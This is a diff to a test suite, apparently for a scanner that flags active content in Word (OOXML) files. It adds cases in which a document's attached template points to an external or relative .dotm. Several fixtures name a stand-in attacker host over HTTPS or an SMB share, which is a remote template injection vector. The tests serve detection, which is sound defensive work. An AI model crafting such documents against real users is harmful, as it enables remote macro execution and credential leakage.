@@ -132,6 +132,8 @@ describe("OOXML active content", () => {
     const template = (target: string) => docx({ "word/_rels/settings.xml.rels": strToU8(relsWith(`<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="${target}" TargetMode="External"/>`)) });
     expect(reasons(template("https://attacker.example/t.dotm"))).toEqual(["office_macros"]);
     expect(reasons(template("\\\\attacker.example\\share\\t.dotm"))).toEqual(["office_macros"]);
+    expect(reasons(template("file:///\\\\attacker.example\\share\\t.dotm"))).toEqual(["office_macros"]);
+    expect(reasons(template("Templates/t.dotm"))).toEqual(["office_macros"]); // relative: resolved wherever the document sits, a share too
     expect(reasons(template("file:///C:\\Users\\me\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"))).toEqual([]);
   });
 
